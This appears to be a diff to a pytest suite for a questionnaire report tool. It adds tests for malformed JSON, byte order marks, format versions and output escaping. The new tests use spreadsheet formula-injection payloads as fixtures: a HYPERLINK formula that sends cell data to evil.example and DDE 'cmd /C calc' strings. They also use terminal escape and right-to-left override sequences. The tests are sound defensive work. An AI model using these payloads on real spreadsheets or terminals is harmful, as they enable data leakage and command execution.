@@ -295,8 +295,9 @@ def bad_files(folder: Path, spec: dict, good: dict) -> dict[str, str]:
     other = spec_of(READINESS)
     files = {
         "notes.json": ("{not json", "not JSON"),
-        "latin1.json": ('{"a": "caf\xe9"}'.encode("latin-1"), "not JSON"),
-        "deep.json": ("[" * 100_000 + "]" * 100_000, "not JSON"),
+        "latin1.json": ('{"a": "caf\xe9"}'.encode("latin-1"), "not UTF-8 text"),
+        "deep.json": ("[" * 100_000 + "]" * 100_000, "nested more than 100 levels deep"),
+        "not-a-number.json": ('{"answers": {"a": NaN}}', "not JSON"),
         "list.json": ("[1, 2]", "not a mentorkit answers file"),
         "wrong-format.json": (
             json.dumps({**record(spec, good), "format": "other-tool"}),
@@ -324,7 +325,7 @@ def bad_files(folder: Path, spec: dict, good: dict) -> dict[str, str]:
     (folder / "nested.json").mkdir()  # a folder is not a file
     (folder / "nested.json" / "inside.json").write_text(json.dumps(record(spec, good)), encoding="utf-8")
     (folder / "readme.txt").write_text("not an answers file, and not *.json", encoding="utf-8")
-    return {name: reason for name, (_, reason) in files.items()} | {"nested.json": "not a file"}
+    return {name: reason for name, (_, reason) in files.items()} | {"nested.json": "not a file (a folder)"}
 
 
 def test_unusable_files_are_listed_with_their_reason_and_never_fatal(capsys, tmp_path):
@@ -368,7 +369,7 @@ def test_no_usable_file_exits_1_and_writes_nothing(capsys, tmp_path):
     code, out, err = run_report(capsys, tmp_path, COMPETENCE, folder)
     assert code == 1
     assert out == ""
-    assert err.splitlines()[-1] == "no usable answers files for 'mentor-competence' (11 skipped); no report written"
+    assert err.splitlines()[-1] == "no usable answers files for 'mentor-competence' (12 skipped); no report written"
     assert not (tmp_path / "out").exists()
 
 
@@ -444,8 +445,8 @@ def test_in_a_real_process_bad_input_gives_messages_not_a_traceback(tmp_path):
 
     nothing_usable = report(COMPETENCE)
     assert nothing_usable.returncode == 1
-    assert "skipped deep.json: not JSON\n" in nothing_usable.stderr
-    assert nothing_usable.stderr.endswith("(11 skipped); no report written\n")
+    assert "skipped deep.json: nested more than 100 levels deep\n" in nothing_usable.stderr
+    assert nothing_usable.stderr.endswith("(12 skipped); no report written\n")
     assert "Traceback" not in nothing_usable.stderr
 
     missing = report(tmp_path / "no.yml")
@@ -546,3 +547,62 @@ def test_titles_from_the_yaml_are_escaped(capsys, tmp_path):
     assert '<th scope="row">Time &lt;b&gt;&amp; more&lt;/b&gt;</th>' in html
     assert "<b>" not in html
     assert rows[3][:2] == ["time", "Time <b>& more</b>"]
+
+
+def test_titles_and_names_a_spreadsheet_would_run_as_formulas_are_written_inert(capsys, tmp_path):
+    text = BANDS_SAMPLE
+    for old, new in [
+        ("title: Time\n", 'title: \'=HYPERLINK("http://evil.example/?"&A1,"Time")\'\n'),
+        ("title: Purpose\n", "title: '+1+cmd|'' /C calc''!A0'\n"),
+        ("title: Expectations\n", "title: '@SUM(1+1)*cmd|'' /C calc''!A0'\n"),
+        ("name: Not ready yet\n", "name: '-2+3'\n"),
+        ("name: Ready\n", 'name: "\\tReady"\n'),
+    ]:
+        text = mutate(old, new, text)
+    questionnaire = tmp_path / "q.yml"
+    questionnaire.write_text(text, encoding="utf-8")
+    spec = spec_of(questionnaire)
+    write_files(tmp_path / "answers", spec, [scale_answers(spec, 1)])
+    assert run_report(capsys, tmp_path, questionnaire, tmp_path / "answers")[0] == 0
+    _, rows = outputs(tmp_path)
+    cells = [cell for row in rows for cell in row]
+    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Time")' in cells
+    assert "'+1+cmd|' /C calc'!A0" in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
+    assert rows[0][2:5] == ["'-2+3", "Getting there", "'\tReady"]
+    assert "1" in cells  # counts stay numbers
+
+
+def test_a_file_with_a_byte_order_mark_is_read_as_the_page_reads_it(capsys, tmp_path):
+    spec = spec_of(COMPETENCE)
+    folder = tmp_path / "answers"
+    (path,) = write_files(folder, spec, [scale_answers(spec, 1)])
+    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())
+    code, _, err = run_report(capsys, tmp_path, COMPETENCE, folder)
+    assert code == 0, err
+    assert "skipped" not in err
+
+
+@pytest.mark.parametrize("version", [True, None, "1", 2, 999])
+def test_a_format_version_the_page_refuses_is_refused_too(capsys, tmp_path, version):
+    spec = spec_of(COMPETENCE)
+    folder = tmp_path / "answers"
+    write_files(folder, spec, [scale_answers(spec, 1)])
+    (folder / "other.json").write_text(
+        json.dumps({**record(spec, scale_answers(spec, 2)), "format_version": version}), encoding="utf-8"
+    )
+    code, _, err = run_report(capsys, tmp_path, COMPETENCE, folder)
+    assert code == 0, err
+    assert f"skipped other.json: format version {version} is not one this toolkit reads" in err
+
+
+def test_file_names_and_ids_that_would_drive_a_terminal_are_printed_escaped(capsys, tmp_path):
+    spec = spec_of(COMPETENCE)
+    folder = tmp_path / "answers"
+    write_files(folder, spec, [scale_answers(spec, 1)])
+    other = {**record(spec, scale_answers(spec, 2)), "questionnaire": "\x1b]0;owned\x07\u202eevil"}
+    (folder / "\x1b[2Jname\u202e.json").write_text(json.dumps(other), encoding="utf-8")
+    code, _, err = run_report(capsys, tmp_path, COMPETENCE, folder)
+    assert code == 0, err
+    assert "skipped \\x1b[2Jname\\u202e.json: answers to another questionnaire (\\x1b]0;owned\\x07\\u202eevil)" in err
+    assert not any(c in err for c in "\x1b\x07\u202e")
